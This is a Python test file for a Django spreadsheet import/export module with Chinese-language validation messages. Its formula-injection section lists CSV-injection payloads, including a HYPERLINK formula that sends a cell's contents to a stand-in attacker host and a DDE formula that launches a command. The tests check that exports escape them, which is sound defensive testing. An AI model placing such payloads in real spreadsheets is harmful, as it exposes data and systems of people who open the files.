import csv
import datetime
import io
from pathlib import Path

import openpyxl
import pytest
from django.db import models

from lianxin.core.errors import ImportRejected
from lianxin.core.tabular import (
    Boolean,
    CellError,
    Choice,
    Column,
    Date,
    Digits,
    FileRejected,
    Integer,
    ListOf,
    Number,
    Phone,
    Text,
    Time,
    csv_writer,
    read_sheet,
    write_xlsx,
)


class Colour(models.TextChoices):
    RED = "red", "红色"
    BLUE = "blue", "蓝色"


COLUMNS = [
    Column("姓名", "name", required=True, parse=Text(10)),
    Column("手机号", "phone", required=True, parse=Phone()),
    Column("出生日期", "born", parse=Date(), default=None),
    Column("人数", "count", parse=Integer(0, 100), default=0),
    Column("颜色", "colour", parse=Choice(Colour), default=Colour.RED),
    Column("专业特长", "skills", parse=ListOf(), default=list),
    Column("区划代码", "code", parse=Digits(12, "区划代码", shorter=(6, 9)), aliases=("行政区划代码",)),
]


def xlsx(rows: list[list]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def rejected(**kwargs) -> list[str]:
    sheet = read_sheet(columns=COLUMNS, **kwargs)
    with pytest.raises(ImportRejected) as info:
        sheet.raise_if_errors()
    return [str(error) for error in info.value.errors]


# --- parsers -----------------------------------------------------------------------------------------


def test_phone_accepts_mobiles_and_landlines_in_the_forms_people_type():
    phone = Phone()
    assert phone("13957211234") == "13957211234"
    assert phone(13957211234) == "13957211234"  # an xlsx number cell
    assert phone("139 5721 1234") == "13957211234"
    assert phone("+86 139-5721-1234") == "13957211234"
    assert phone("１３９５７２１１２３４") == "13957211234"
    assert phone("0572-8012345") == "0572-8012345"
    assert phone("05728012345") == "0572-8012345"
    assert phone("(0572)8012345") == "0572-8012345"
    assert phone("010-12345678-802") == "010-12345678-802"


@pytest.mark.parametrize("value", ["12345678901", "1395721123", "8012345", "电话", "0572-0123456"])
def test_phone_rejects_what_is_neither_a_mobile_nor_a_landline(value):
    with pytest.raises(CellError, match="不是有效的手机号或固定电话"):
        Phone()(value)


def test_phone_can_insist_on_a_mobile():
    with pytest.raises(CellError, match="不是有效的手机号"):
        Phone(mobile_only=True)("0572-8012345")


@pytest.mark.parametrize(
    "value",
    [
        "2024-01-05",
        "2024/1/5",
        "2024.1.5",
        "2024年1月5日",
        "20240105",
        "2024-01-05 00:00:00",
        datetime.datetime(2024, 1, 5),
        datetime.date(2024, 1, 5),
        45296,  # the serial number of a date cell formatted as "General"
    ],
)
def test_date_accepts_excel_dates_and_the_usual_written_forms(value):
    assert Date()(value) == datetime.date(2024, 1, 5)


def test_date_rejects_nonsense_and_days_that_do_not_exist():
    with pytest.raises(CellError, match="日期格式应为 2024-01-05"):
        Date()("明年春天")
    with pytest.raises(CellError, match="日期不存在"):
        Date()("2024-02-30")
    with pytest.raises(CellError, match="不能晚于今天"):
        Date(allow_future=False)(datetime.date.today() + datetime.timedelta(days=1))


def test_time_accepts_cells_and_text():
    assert Time()("9:00") == datetime.time(9, 0)
    assert Time()("9点30") == datetime.time(9, 30)
    assert Time()(datetime.time(14, 30)) == datetime.time(14, 30)
    assert Time()(0.375) == datetime.time(9, 0)
    with pytest.raises(CellError):
        Time()("25:00")


def test_integer_and_number_check_their_ranges():
    assert Integer(0, 100)("12") == 12
    assert Integer()(12.0) == 12
    with pytest.raises(CellError, match="应为整数"):
        Integer()("12.5")
    with pytest.raises(CellError, match="应在0到100之间"):
        Integer(0, 100)(101)
    assert Number(3, 54)("30.5") == 30.5
    with pytest.raises(CellError, match="应在3到54之间"):
        Number(3, 54)(120.1)
    with pytest.raises(CellError, match="应为数字"):
        Number()("北纬30度")


def test_choice_accepts_the_chinese_label_or_the_code_and_stores_the_code():
    colour = Choice(Colour, aliases={"红": Colour.RED})
    assert colour("红色") == "red"
    assert colour("blue") == "blue"
    assert colour("BLUE") == "blue"
    assert colour("红") == "red"
    assert colour.render("blue") == "蓝色"
    with pytest.raises(CellError, match="应为 红色/蓝色 之一，实为“绿色”"):
        colour("绿色")


def test_boolean_understands_yes_and_no_in_chinese():
    assert Boolean()("是") is True
    assert Boolean()("否") is False
    assert Boolean()(True) is True
    with pytest.raises(CellError, match="应为 是/否"):
        Boolean()("也许")


def test_a_list_may_be_separated_by_any_of_the_usual_marks():
    assert ListOf()("法律、医疗，教育,农业;金融；环保") == ["法律", "医疗", "教育", "农业", "金融", "环保"]
    assert ListOf()("法律、、法律") == ["法律"]
    assert ListOf().render(["法律", "医疗"]) == "法律、医疗"
    with pytest.raises(CellError, match="第2项“abc”"):
        ListOf(Integer())("1、abc")


def test_short_region_codes_are_padded_to_twelve_digits():
    code = Digits(12, "区划代码", shorter=(6, 9))
    assert code("330521") == "330521000000"
    assert code(330521001) == "330521001000"
    assert code("330521001001") == "330521001001"
    with pytest.raises(CellError, match="区划代码应为12位数字"):
        code("3305")


# --- reading -----------------------------------------------------------------------------------------


def test_an_xlsx_sheet_is_read_into_typed_rows_with_the_spreadsheets_row_numbers():
    data = xlsx(
        [
            ["序号", "姓名", "手机号", "出生日期", "人数", "颜色", "专业特长"],
            [1, "张三", "13957211234", datetime.date(1980, 1, 2), 3, "蓝色", "法律、医疗"],
            [None, None, None, None, None, None, None],
            [2, "李四", 13957211235, "1981/2/3", None, None, None],
            [None, None, None, None, None, None, None],
        ]
    )
    sheet = read_sheet(file=data, filename="名册.xlsx", columns=COLUMNS)
    assert sheet.errors == []
    assert [row.number for row in sheet.rows] == [2, 4]
    first, second = sheet.rows
    assert first.values == {
        "name": "张三",
        "phone": "13957211234",
        "born": datetime.date(1980, 1, 2),
        "count": 3,
        "colour": "blue",
        "skills": ["法律", "医疗"],
    }
    assert second["phone"] == "13957211235"
    assert second["count"] == 0 and second["colour"] == "red" and second["skills"] == []
    assert sheet.has("name") and not sheet.has("code")


def test_headers_match_despite_spaces_full_width_parentheses_hints_and_required_marks():
    data = xlsx(
        [[" 姓 名 ", "*手机号（必填）", "颜色(红色/蓝色)", "行政区划代码"], ["张三", "13957211234", "red", "330521"]]
    )
    sheet = read_sheet(file=data, filename="a.xlsx", columns=COLUMNS)
    assert sheet.errors == []
    assert sheet.rows[0].values["code"] == "330521000000"
    assert sheet.rows[0].values["colour"] == "red"


def test_a_title_row_above_the_header_is_skipped_and_row_numbers_stay_the_sheets_own():
    data = xlsx([["德清县人大代表名册"], ["姓名", "手机号"], ["张三", "13957211234"], ["李四", "手机"]])
    sheet = read_sheet(file=data, filename="a.xlsx", columns=COLUMNS)
    assert sheet.header_row == 2
    assert [str(error) for error in sheet.errors] == [
        "第4行 手机号: 不是有效的手机号或固定电话（如 13812345678、0572-8012345），实为“手机”"
    ]


def test_missing_required_columns_are_reported_on_the_header_row():
    assert rejected(file=xlsx([["姓名", "颜色"], ["张三", "红色"]]), filename="a.xlsx") == ["第1行 手机号: 缺少该列"]


def test_a_column_given_twice_is_reported():
    errors = rejected(file=xlsx([["姓名", "手机号", "姓名"], ["张三", "13957211234", "张三"]]), filename="a.xlsx")
    assert errors == ["第1行 姓名: 表头重复（第C列）"]


def test_every_error_in_the_file_is_collected_in_row_and_column_order():
    data = xlsx(
        [
            ["姓名", "手机号", "人数", "颜色"],
            ["张三", "13957211234", 1, "红色"],
            ["", "110", "很多", "绿色"],
            ["名字实在是太长了超过十个字", "13957211234", 200, "蓝色"],
        ]
    )
    assert rejected(file=data, filename="a.xlsx") == [
        "第3行 姓名: 不能为空",
        "第3行 手机号: 不是有效的手机号或固定电话（如 13812345678、0572-8012345），实为“110”",
        "第3行 人数: 应为整数，实为“很多”",
        "第3行 颜色: 应为 红色/蓝色 之一，实为“绿色”",
        "第4行 姓名: 不能超过10个字，实为13个字",
        "第4行 人数: 应在0到100之间，实为200",
    ]


def test_a_csv_saved_by_chinese_excel_in_gb18030_is_read():
    data = "姓名,手机号,专业特长\r\n张三,13957211234,法律、医疗\r\n".encode("gb18030")
    sheet = read_sheet(file=data, filename="名册.csv", columns=COLUMNS)
    assert sheet.rows[0].values["name"] == "张三"
    assert sheet.rows[0].values["skills"] == ["法律", "医疗"]


def test_a_utf8_csv_with_byte_order_mark_and_a_utf16_tab_separated_text_are_read():
    utf8 = "\ufeff姓名,手机号\n张三,13957211234\n".encode()
    assert read_sheet(file=utf8, filename="a.csv", columns=COLUMNS).rows[0]["name"] == "张三"
    utf16 = "姓名\t手机号\r\n李四\t13957211235\r\n".encode("utf-16")
    assert read_sheet(file=utf16, filename="a.txt", columns=COLUMNS).rows[0]["name"] == "李四"


def test_a_file_object_is_read_as_well_as_bytes():
    handle = io.BytesIO(xlsx([["姓名", "手机号"], ["张三", "13957211234"]]))
    assert read_sheet(file=handle, filename="a.xlsx", columns=COLUMNS).rows[0]["name"] == "张三"


def test_the_first_worksheet_with_the_expected_headers_is_read():
    workbook = openpyxl.Workbook()
    workbook.active.append(["填表说明：身份证号请设为文本格式"])
    data_sheet = workbook.create_sheet("名册")
    data_sheet.append(["姓名", "手机号"])
    data_sheet.append(["张三", "13957211234"])
    out = io.BytesIO()
    workbook.save(out)
    sheet = read_sheet(file=out.getvalue(), filename="a.xlsx", columns=COLUMNS)
    assert sheet.rows[0]["name"] == "张三"


def test_files_that_cannot_be_read_are_refused_with_a_reason():
    with pytest.raises(FileRejected, match=r"另存为” \.xlsx"):
        read_sheet(file=b"\xd0\xcf\x11\xe0", filename="名册.xls", columns=COLUMNS)
    with pytest.raises(FileRejected, match="不支持的文件类型"):
        read_sheet(file=b"%PDF", filename="名册.pdf", columns=COLUMNS)
    with pytest.raises(FileRejected, match="文件可能已损坏"):
        read_sheet(file=b"PK\x03\x04 broken", filename="名册.xlsx", columns=COLUMNS)
    with pytest.raises(FileRejected, match="文件是空的"):
        read_sheet(file=b"", filename="名册.csv", columns=COLUMNS)
    with pytest.raises(FileRejected, match="没有数据"):
        read_sheet(file="姓名,手机号\n,\n".encode(), filename="名册.csv", columns=COLUMNS)


def test_size_and_row_limits_give_a_clear_error():
    with pytest.raises(FileRejected, match="文件超过1MB"):
        read_sheet(file=b"x" * (1024 * 1024 + 1), filename="a.csv", columns=COLUMNS, max_bytes=1024 * 1024)
    data = ("姓名,手机号\n" + "张三,13957211234\n" * 11).encode()
    with pytest.raises(FileRejected, match="数据超过10行，请分成几个文件导入"):
        read_sheet(file=data, filename="a.csv", columns=COLUMNS, max_rows=10)


# --- writing -----------------------------------------------------------------------------------------


ROWS = [
    {
        "name": "张三",
        "phone": "13957211234",
        "born": datetime.date(1980, 1, 2),
        "count": 3,
        "colour": "blue",
        "skills": ["法律", "医疗"],
        "code": "330521001001",
    },
    {"name": "李四", "phone": "0572-8012345", "born": None, "count": 0, "colour": "red", "skills": [], "code": ""},
]


def test_written_xlsx_has_a_bold_frozen_header_and_text_formatted_codes():
    workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx(COLUMNS, ROWS, title="名册")))
    sheet = workbook["名册"]
    assert [cell.value for cell in sheet[1]] == [column.header for column in COLUMNS]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet["G2"].value == "330521001001" and sheet["G2"].number_format == "@"
    assert sheet["C2"].number_format == "yyyy-mm-dd"
    assert sheet["E2"].value == "蓝色" and sheet["F2"].value == "法律、医疗"
    assert sheet.column_dimensions["A"].width >= 8
    assert sheet.column_dimensions["G"].width >= 14  # 12 digits fit
    assert any("E2" in str(validation.sqref) for validation in sheet.data_validations.dataValidation)


def test_what_is_written_reads_back_as_the_same_values():
    sheet = read_sheet(file=write_xlsx(COLUMNS, ROWS), filename="export.xlsx", columns=COLUMNS)
    assert sheet.errors == []
    assert sheet.rows[0].values == ROWS[0]
    assert sheet.rows[1].values == {**ROWS[1], "code": ""}


def test_an_empty_list_writes_a_template_with_only_the_header():
    workbook = openpyxl.load_workbook(io.BytesIO(write_xlsx(COLUMNS, [])))
    assert workbook.active.max_row == 1


# --- formula injection (OWASP CSV injection) ---------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_cell_that_starts_like_a_formula_is_written_to_xlsx_as_inert_text(text):
    rows = [{"name": text, "phone": "", "born": None, "count": 1, "colour": "red", "skills": [], "code": ""}]
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(COLUMNS, rows))).active
    assert sheet["A2"].value == "'" + text
    assert sheet["A2"].data_type == "s"


def test_numbers_and_dates_stay_numbers_and_dates_when_text_is_escaped():
    columns = [Column("姓名", "name"), Column("差额", "delta", parse=Integer()), Column("日期", "day", parse=Date())]
    rows = [{"name": "=1+1", "delta": -5, "day": datetime.date(2025, 1, 2)}]
    sheet = openpyxl.load_workbook(io.BytesIO(write_xlsx(columns, rows))).active
    assert sheet["A2"].value == "'=1+1"
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == datetime.datetime(2025, 1, 2) and sheet["C2"].is_date


def test_an_escaped_export_reads_back_as_the_text_that_was_written():
    columns = [Column("备注", "note", parse=Text())]
    sheet = read_sheet(file=write_xlsx(columns, [{"note": "=HYPERLINK(1)"}]), filename="export.xlsx", columns=columns)
    assert sheet.errors == [] and sheet.rows[0].values["note"] == "=HYPERLINK(1)"


@pytest.mark.parametrize("text", FORMULAS)
def test_the_csv_writer_prefixes_formula_text_and_leaves_numbers_alone(text):
    buffer = io.StringIO()
    csv_writer(buffer).writerow([text, "普通文字", -5, 3.5, ""])
    cells = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert cells == ["'" + text, "普通文字", "-5", "3.5", ""]


def test_no_module_writes_a_spreadsheet_except_through_core_tabular():
    """Exports escape formulas in one place; a csv.writer or an openpyxl workbook elsewhere would bypass it."""
    package = Path(__file__).resolve().parents[2]
    bypasses = []
    for path in package.rglob("*.py"):
        relative = path.relative_to(package).as_posix()
        if "/tests/" in f"/{relative}" or relative in ("core/tabular.py", "testing.py"):
            continue
        source = path.read_text(encoding="utf-8")
        for construct in ("csv.writer(", "csv.DictWriter(", "openpyxl.Workbook(", "Workbook(write_only"):
            if construct in source:
                bypasses.append(f"{relative}: {construct}")
    assert bypasses == []
